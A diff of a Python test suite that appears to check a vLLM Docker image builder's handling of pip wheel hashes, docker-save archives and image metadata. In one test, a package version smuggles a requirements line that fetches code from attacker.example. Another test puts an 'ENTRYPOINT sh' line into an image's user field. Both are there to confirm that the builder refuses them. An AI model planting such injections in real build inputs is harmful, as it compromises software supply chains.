@@ -15,7 +15,7 @@ from typing import Any
 
 import pytest
 import yaml
-from helpers import ROOT, write_program
+from helpers import ROOT
 from role_cases import Cases, Played, Run, Steps
 
 BASE = "registry.example/vllm/vllm-openai:v0.32.0"
@@ -25,14 +25,16 @@ DIGEST = "sha256:" + "d" * 64
 PACKAGES = {"vllm": "0.32.0", "torch": "2.13.0", "transformers": "5.16.0", "tokenizers": "0.23.3", "pip": "26.0"}
 FITTING = PACKAGES | {"transformers": "5.18.0"}
 """With them there is no layer, hence a quicker play."""
-CONTENTS = {"python": "3.12", "platforms": ["manylinux_2_35_x86_64", "linux_x86_64"], "packages": PACKAGES}
-IMAGE: dict[str, Any] = {"id": BASE_ID, "tags": [BASE], "digests": [DIGEST], "labels": {}, "contents": CONTENTS}
-FITTING_IMAGE = IMAGE | {"contents": CONTENTS | {"packages": FITTING}}
-NO_TOKENIZERS = "#8 4.237 ERROR: No matching distribution found for tokenizers"
-FULL = "#8 4.237 ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device"
+IMAGE: dict[str, Any] = {"id": BASE_ID, "tags": [BASE], "digests": [DIGEST], "labels": {}, "packages": PACKAGES}
+FITTING_IMAGE = IMAGE | {"packages": FITTING}
+OTHER_WHEELS = """ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.
+    transformers from https://i.example/transformers-5.19.0-py3-none-any.whl:
+        Expected sha256 aaaa
+             Got        bbbb"""
+FULL = "ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device"
 INDEX = {"vllm_image_pip_source": "index", "vllm_image_wheels_directory": ""}
-LOOKS = ("version", "info", "buildx", "image inspect", "image ls", "container", "manifest", "image tag", "image rm")
-"""Commands that only look, and those that name the base image for a build."""
+LOOKS = ("version", "info", "image inspect", "image ls", "container", "manifest", "image tag", "image rm")
+"""Commands that only look, or are followed by those that count."""
 
 Step = Generator[Run, Played, Played]
 
@@ -114,7 +116,7 @@ def way_of_a_derived_image(host: Host) -> Steps:
     host.commands()
 
     built = yield from host.converge(vllm_image_python=sys.executable)
-    assert host.commands() == ["run", "build", "run", "run"]
+    assert host.commands() == ["run", "run", "run", "run", "run"]
     bom = json.loads((host.root / "state/sbom" / f"{built.result['id'][7:19]}.cdx.json").read_text())
     found = {item["name"]: item for item in bom["components"]}
     assert found["transformers"]["properties"][0]["value"] == "layer" and found["torch"]["version"] == "2.13.0"
@@ -130,10 +132,9 @@ def way_of_a_derived_image(host: Host) -> Steps:
     assert labels["constraint"] == "transformers>=5.16.1,<5.20.0"
     assert labels["inputs"].startswith(built.result["name"].rsplit("-", 1)[1])
     context = json.loads((host.root / "docker/context.json").read_text())
-    assert f"FROM vllm-edge/vllm-openai-base:{'a' * 12}\n" in context["Dockerfile"]
-    assert not any("-base:" in tag for tag in host.tags())
+    assert f"--entrypoint=env {BASE_ID} PIP_CONFIG_FILE=" in context["command"], "of what was checked, not of its name"
     assert "torch==2.13.0\n" in context["constraints.txt"] and "tokenizers" not in context["constraints.txt"]
-    assert context["requirements.txt"] == "transformers==5.19.0\n"
+    assert context["requirements.txt"] == f"transformers==5.19.0 --hash=sha256:{hashlib.sha256(b'').hexdigest()}\n"
     assert not (host.root / "state/build/image").exists()
     record = host.record()
     assert (record["cuda"], record["driver_branch"]) == ("13.0.2", "580"), "those of the base image"
@@ -142,10 +143,13 @@ def way_of_a_derived_image(host: Host) -> Steps:
     assert host.commands() == [], "neither looked into nor tested again"
     assert again.result == built.result
 
-    host.change_docker(images=host.docker_state()["images"][:1], build_fails=NO_TOKENIZERS)
-    failed = yield from host.refuse("No matching distribution found for tokenizers. pip found no version")
-    assert "build" in host.commands(), "the image is gone, hence built again"
-    assert "did not complete successfully" not in failed.text and "image-build.log" in failed.text
+    host.change_docker(images=host.docker_state()["images"][:1], build_fails=OTHER_WHEELS)
+    failed = yield from host.refuse(
+        "Expected sha256 aaaa; Got bbbb. The wheels are not those of the key wheels of",
+        "otherwise bring the former ones",
+    )
+    assert host.commands() == ["run"], "the image is gone, hence built again, of the wheels that are recorded"
+    assert "image-build.log" in failed.text
     assert not (host.root / "state/build/image").exists()
 
 
@@ -241,28 +245,30 @@ CASES.add(
 
 
 @CASES.add
-def archive_of_the_controller_is_loaded(host: Host) -> Steps:
+def archive_is_loaded_by_its_id(host: Host) -> Steps:
     host.change_docker(images=[])
     file = host.root / "base.tar"
     file.write_bytes(b"not whole" * 1000)
     given = {"vllm_image_base_archive": str(file)}
     yield from host.refuse("is no uncompressed archive of `docker save`, or not all of one: ", **given)
-    config = write_archive(file)
-    expected = f"holds the image {config}, and {OTHER_ID} is expected"
+    config = write_archive(file, ["prom/prometheus:v3"])
+    yield from host.refuse(f"it has the name 'prom/prometheus:v3', and may have no other than {BASE}", **given)
+    write_archive(file, None)
+    expected = f"it has the image {config}, and vllm_image_base_id pins {OTHER_ID}"
     yield from host.refuse(expected, **given, vllm_image_base_id=OTHER_ID)
     yield from host.refuse("and vllm_image_base_id is empty", **given, vllm_image_base_archive_on_host=True)
     assert host.commands() == [], "nothing of it reached Docker"
     loaded = yield from host.converge(**given)
     assert f"vllm_image_base_id: {config}" in loaded.text, "an archive has no digest to pin"
     assert sorted(path.name for path in (host.root / "state").iterdir()) == ["image.json", "log"]
-    assert host.record()["base_ids"] == [config]
+    assert host.record()["base_ids"] == [config] and host.tags() == [BASE]
 
 
-def write_archive(file: Path) -> str:
+def write_archive(file: Path, names: list[str] | None) -> str:
     """Write what `docker save` writes of an image, with what the command of these tests loads; return the id."""
     text = json.dumps(FITTING_IMAGE | {"digests": []}).encode()
     config = hashlib.sha256(text).hexdigest()
-    manifest = json.dumps([{"Config": f"blobs/sha256/{config}", "RepoTags": [BASE], "Layers": []}]).encode()
+    manifest = json.dumps([{"Config": f"blobs/sha256/{config}", "RepoTags": names, "Layers": []}]).encode()
     with tarfile.open(file, "w") as tar:
         for name, content in (("manifest.json", manifest), (f"blobs/sha256/{config}", text)):
             member = tarfile.TarInfo(name)
@@ -272,33 +278,14 @@ def write_archive(file: Path) -> str:
 
 
 @CASES.add
-def archive_that_moves_names_of_others_is_undone(host: Host) -> Steps:
-    """Whatever the check of the archive did not see."""
-    config = write_archive(host.root / "base.tar")
-    neighbour = IMAGE | {"id": OTHER_ID, "tags": ["prom/prometheus:v3", "prom/prometheus:v3.1"]}
-    host.docker(neighbour, load_moves={"prom/prometheus:v3": config, "somebody/app:latest": config})
-    given = {"vllm_image_base_archive": str(host.root / "base.tar"), "vllm_image_base_id": config}
-    yield from host.refuse("another image under prom/prometheus:v3, somebody/app:latest", **given)
-    (left,) = host.docker_state()["images"]
-    assert left["id"] == OTHER_ID and sorted(left["tags"]) == ["prom/prometheus:v3", "prom/prometheus:v3.1"]
-    assert not (host.root / "state/image.json").exists()
-
-
-@CASES.add
-def image_that_lies_about_its_packages_reaches_neither_pip_nor_a_file(host: Host) -> Steps:
-    write_program(host.root / "pip", f"touch {host.root}/called")
+def image_that_lies_about_itself_reaches_no_file(host: Host) -> Steps:
     packages = {**PACKAGES, "zz": "1\ntransformers @ https://attacker.example/x.tar.gz"}
-    host.change_docker(answer=json.dumps({**CONTENTS, "packages": packages}))
-    refused = yield from host.refuse(
-        f"What {BASE} says of itself cannot be used: the version of zz is",
-        vllm_image_pip_source="controller",
-        vllm_image_wheels_directory="",
-        vllm_image_pip_command=[str(host.root / "pip")],
-        vllm_image_wheels_cache=str(host.root / "cache"),
-    )
+    host.change_docker(answer=json.dumps({"packages": packages, "debian": []}))
+    refused = yield from host.refuse(f"What {BASE} says of its packages cannot be used: the version of zz is")
     assert "Traceback" not in refused.text and host.commands() == ["run"]
-    assert not (host.root / "called").exists() and not (host.root / "cache").exists()
-    assert list((host.root / "state").iterdir()) == []
+    host.docker(IMAGE | {"user": "0\nENTRYPOINT sh"})
+    yield from host.refuse(f"The user of {BASE} is 0 ENTRYPOINT")
+    assert list((host.root / "state").iterdir()) == [] and host.commands() == []
 
 
 @CASES.add
@@ -314,16 +301,19 @@ def wheels_from_the_index_are_taken_by_their_hashes_and_held_to_them(host: Host)
     yield from host.refuse(empty, f'"{"a" * 64}"', **INDEX, vllm_image_require_pins=True)
     built = yield from host.converge(**INDEX)
     context = json.loads((host.root / "docker/context.json").read_text())
-    assert "--require-hashes" in context["Dockerfile"]
+    assert "--require-hashes" in context["command"] and "--network=none" not in context["command"]
     hashed = f"tokenizers==0.23.4 --hash=sha256:{'a' * 64}\ntransformers==5.19.0 --hash=sha256:{'a' * 64}\n"
     assert context["requirements.txt"] == hashed
     wheels = host.record()["wheels"]
     assert sorted(wheels.values()) == ["a" * 64] * 2 and "vllm_image_wheel_hashes: {" in built.text
     yield from host.converge(changed=0, **INDEX, vllm_image_wheel_hashes=wheels)
+    # Built again, it is made of the same wheels, whatever the index has now.
     host.commands()
     host.change_docker(**base, index_report=report("b"))
-    yield from host.refuse("are not those of", "has the SHA-256 bbbb", **INDEX)
-    assert host.record()["wheels"] == wheels and "build" not in host.commands()
+    yield from host.converge(**INDEX, vllm_image_require_pins=True, vllm_image_wheel_hashes=wheels)
+    assert host.commands() == ["run"] and host.record()["wheels"] == wheels
+    alone = {"tokenizers-0.23.4-cp39-abi3-linux_x86_64.whl": "a" * 64}
+    yield from host.refuse("no wheel of transformers is among tokenizers", **INDEX, vllm_image_wheel_hashes=alone)
 
 
 @CASES.add
@@ -343,7 +333,7 @@ def index_that_the_host_does_not_reach(host: Host) -> Steps:
         "connection.HTTPSConnection object at 0x7f>: Failed to establish a new connection: [Errno 111] Connection "
         "refused')': /simple/transformers/\nERROR: No matching distribution found for transformers"
     )
-    host.change_docker(index_says=said)
+    host.change_docker(pip_says=said)
     failed = yield from host.refuse(
         "to the host: Failed to establish a new connection: [Errno 111] Connection refused.",
         "vllm_image_pip_index_url, vllm_image_pip_proxy",
@@ -351,6 +341,9 @@ def index_that_the_host_does_not_reach(host: Host) -> Steps:
         vllm_image_pip_index_url="https://user:s3cret@index.example/simple",
     )
     assert "s3cret" not in failed.text and not (host.root / "state/build/image").exists()
+    host.change_docker(pip_says="ERROR: No matching distribution found for transformers<5.20.0,>=5.16.1")
+    fill = f"--volume=DIRECTORY:/wheels {BASE} -m pip download --only-binary=:all: --dest=/wheels"
+    yield from host.refuse(f"{host.wheels} (vllm_image_wheels_directory) does not give", fill)
 
 
 @CASES.add
